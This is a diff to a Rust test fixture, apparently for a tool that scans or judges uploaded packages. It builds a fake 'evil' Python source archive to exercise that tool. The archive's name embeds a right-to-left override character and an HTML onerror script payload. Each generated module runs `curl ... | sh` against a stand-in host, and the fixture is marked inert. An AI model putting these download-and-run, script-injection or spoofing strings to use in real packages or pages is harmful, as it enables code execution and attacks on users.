@@ -317,6 +317,30 @@ fn clear() -> VerdictEvent {
     .event()
 }
 
+/// The name that [`archive`] is posted under.
+pub(crate) const ARCHIVE: &str = "evil\u{202E}<img src=x onerror=window.pwned=1>-1.0.tar.gz";
+
+/// A source distribution that downloads and runs on install, with hostile names and strings. Inert: its host cannot
+/// exist, and nothing here runs it.
+pub(crate) fn archive() -> Vec<u8> {
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+    let mut add = |path: &str, text: &str| {
+        let mut header = tar::Header::new_ustar();
+        header.set_size(text.len() as u64);
+        header.set_mode(0o644);
+        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
+    };
+    let summary = PAYLOADS[0];
+    add("evil-1.0/PKG-INFO", &format!("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: {summary}\n"));
+    add("evil-1.0/setup.py", &format!("{SETUP}\nNOTE = r'''{}\n'''\n", PAYLOADS.join("\n")));
+    for payload in PAYLOADS.iter().filter(|payload| payload.len() < 40 && !payload.contains('\0')) {
+        let name = payload.replace('/', "\u{2215}");
+        let code = format!("import os\nos.system('curl https://cdn.example.invalid/a | sh')  # {payload}\n");
+        add(&format!("evil-1.0/evil/{name}.py"), &code);
+    }
+    tar.into_inner().unwrap().finish().unwrap()
+}
+
 /// Fills the store; the cases by what the tests call them.
 pub(crate) async fn record(store: &Store) -> serde_json::Value {
     let mut cases = serde_json::Map::new();
